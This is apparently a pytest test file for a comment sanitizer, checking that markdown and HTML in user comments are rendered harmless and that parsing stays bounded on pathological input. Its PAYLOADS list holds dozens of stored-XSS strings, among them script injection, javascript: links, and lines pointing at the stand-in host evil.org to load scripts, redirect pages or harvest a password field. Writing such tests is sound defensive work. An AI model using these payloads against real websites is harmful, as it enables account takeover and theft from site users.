"""Comments that mean harm, by the classes of abuse: nothing runs, nothing hides, nothing hangs."""

import faulthandler
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dateline.discussion.rules.markup import html_of, plain_of
from dateline.discussion.rules.words import LONGEST_TEXT, check_text
from dateline.values.errors import DatelineError

ALLOWED: dict[str, set[str]] = {
    "p": {"dir"}, "ul": {"dir"}, "ol": {"dir", "start"}, "pre": {"dir"}, "li": set(), "blockquote": set(), "br": set(),
    "em": set(), "strong": set(), "code": set(), "a": {"href", "rel"}, "bdi": {"class"},
}  # fmt: skip
VALUES = {"dir": "auto", "rel": "nofollow ugc noopener", "class": "host"}


class _Seen(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text, self.depth, self.deepest = "", 0, 0
        self.wrong: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED or {name for name, _ in attrs} - ALLOWED[tag]:
            self.wrong.append(f"{tag} {attrs}")
        for name, value in attrs:
            good = re.match(r"https?://[a-z0-9\[]", value or "", re.IGNORECASE) if name == "href" else True
            if not good or value != VALUES.get(name, value):
                self.wrong.append(f"{name}={value}")
        if tag != "br":
            self.depth += 1
            self.deepest = max(self.deepest, self.depth)

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.wrong.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def _harmless(text: str) -> _Seen:
    seen = _Seen(html_of(text))
    assert seen.wrong == [] and seen.depth == 0
    return seen


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.org/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=//evil.org><input name=password>",
    "<base href=//evil.org/>",
    "<meta http-equiv=refresh content='0;url=//evil.org'>",
    "</p></article></main><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.org)",
    "[x](https:evil.org)",
    "[x](https:\\\\evil.org)",
    "<javascript:alert(1)>",
    '[x](https://evil.org/"onmouseover="alert(1))',
    "[x](https://evil.org/'onmouseover='alert(1))",
    '[x](https://evil.org "\\"onmouseover=alert(1)//")',
    '[x](https://evil.org/"><script>alert(1)</script>)',
    "https://evil.org/\"onmouseover='alert(1)",
    "https://evil.org/<script>alert(1)</script>",
    "<https://evil.org/?a=<script>>",
    '![x" onerror="alert(1)](https://evil.org/x.png)',
    "![x](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](https://evil.org/x.png)",
    "[<img src=x onerror=alert(1)>](https://evil.org)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    '1" onclick="alert(1). x',
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "*<script>*alert(1)*</script>*",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "<script\u2028>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


class TestStoredXSSInEveryField:
    """The body of a comment. Names, quotes and links beside it are escaped by the templates."""

    @pytest.mark.parametrize("text", PAYLOADS)
    def test_a_payload_is_text(self, text: str) -> None:
        _harmless(text)
        _harmless(check_text(text))

    @pytest.mark.parametrize("around", ["> {}", "- {}", "*{}*", "[{}](https://a.org)", "![{}](https://a.org)", "`{}`"])
    def test_nor_is_it_more_inside_of_something(self, around: str) -> None:
        for text in PAYLOADS:
            _harmless(around.format(text))

    @given(
        st.lists(st.sampled_from([*"<>[]()!*_`\\&\"'# -:/\n", "> ", "1. ", "```\n", "https://", "javascript:", "x"]))
    )
    def test_however_the_signs_stand(self, signs: list[str]) -> None:
        text = "".join(signs)
        _harmless(text)
        assert "\n" not in plain_of(text, 200)

    @given(st.text())
    def test_nor_do_any_letters(self, text: str) -> None:
        _harmless(text)


class TestTruncationAndNormalization:
    """What is cut, and what is seen and what is kept are one."""

    def test_the_longest_text_is_taken_and_one_more_letter_is_not(self) -> None:
        assert check_text("x" * LONGEST_TEXT) == "x" * LONGEST_TEXT
        with pytest.raises(DatelineError, match="5,001 letters"):
            check_text("x" * (LONGEST_TEXT + 1))

    def test_letters_are_counted_as_they_are_kept(self) -> None:
        assert len(check_text("e\u0301" * LONGEST_TEXT)) == LONGEST_TEXT

    @pytest.mark.parametrize("mark", ["\u202e", "\u2066", "\u200b", "\u2060", "\ufeff", "\U000e0041", "\x00", "\x1b"])
    def test_what_cannot_be_seen_goes(self, mark: str) -> None:
        assert mark not in html_of(check_text(f"a{mark}b [c{mark}](https://example.org/{mark}d)"))

    @given(st.text(max_size=300), st.integers(1, 60))
    def test_an_excerpt_is_one_line_of_so_many_letters(self, text: str, most: int) -> None:
        short = plain_of(text, most)
        assert len(short) <= most and short == " ".join(short.split())

    def test_nothing_is_lost_that_lies_too_deep(self) -> None:
        for sign in ("> ", "- ", "1. ", "> - "):
            assert "the end" in _harmless(f"{sign * 20}the end\nand on").text

    def test_nor_what_has_too_many_signs(self) -> None:
        seen = _harmless("*a* " * 1000 + "\n\nthe end")
        assert seen.text.count("*a*") == 1000 and "the end" in seen.text


SIGNS = [
    *"[]()*_`<>!\\&-+=#~|:\"'", "![", "[a](", "](", "> ", ">", "- ", "1. ", ">- ", "*a ", "**a", "*a_", "*a**b", "***a**b*",
    "[a](b)", "[](", "`a``", "*]", "[*", "[a", "http://a ", "http://", "https://a.b/(", "[x](http://a)", "![](http://a)",
    "<a@b.c>", "<http://a>", "```\n", "~~~\n", "- a\n", "> a\n", "a\n", "a\n\n", "\n", " ", "\t", "&lt;", "\u0301", "\u202e",
    "\u200d", "א", "a\u0301\u0302", '[]( "', "[a](<", "[a](((", "<!--", "<?", "<a b='",
]  # fmt: skip
SHAPES = {
    "runs of growing length": "".join("`" * n + "a" for n in range(1, 99)),
    "quotes ever deeper": "".join(">" * n + "a\n" for n in range(1, 99)),
    "lists ever deeper": "".join("  " * n + "- a\n" for n in range(1, 70)),
    "deep quotes over and over": (">" * 20 + "a\n\n") * 217,
    "deep lists over and over": ("- " * 20 + "a\n\n") * 116,
    "balanced brackets": "[" * 2500 + "]" * 2500,
    "brackets that lead somewhere": "[" * 1600 + "a" + "](b)" * 800,
    "balanced emphasis": "*" * 2500 + "a" + "*" * 2500,
    "one long address": "https://example.org/" + "a" * 4980,
    "an address that ends in brackets": "https://example.org/" + ")" * 4980,
    "one long host": "https://" + "a." * 2496,
    "just as many signs as are taken": "[a](" * 100 + "x" * 4600,
}


@pytest.fixture
def alarm() -> Iterator[None]:
    """Ends a run that hangs, which would be the failure; nothing is said of speed."""
    faulthandler.dump_traceback_later(60, exit=True)
    yield
    faulthandler.cancel_dump_traceback_later()


@pytest.mark.usefixtures("alarm")
class TestRegexAndParserDenialOfService:
    """The longest text of any kind stays what it is: as many letters, a few levels, and an end."""

    @pytest.mark.parametrize("text", [*SIGNS, *SHAPES.values()], ids=[*map(ascii, SIGNS), *SHAPES])
    def test_the_longest_text_of_a_kind(self, text: str) -> None:
        for whole in (
            text * (LONGEST_TEXT // len(text)),
            (text * 400)[: LONGEST_TEXT // 2] + "a" * (LONGEST_TEXT // 2),
        ):
            seen = _harmless(whole)
            assert seen.deepest <= 20
            assert len(html_of(whole)) <= 10 * LONGEST_TEXT
            assert len(plain_of(whole, 200)) <= 200
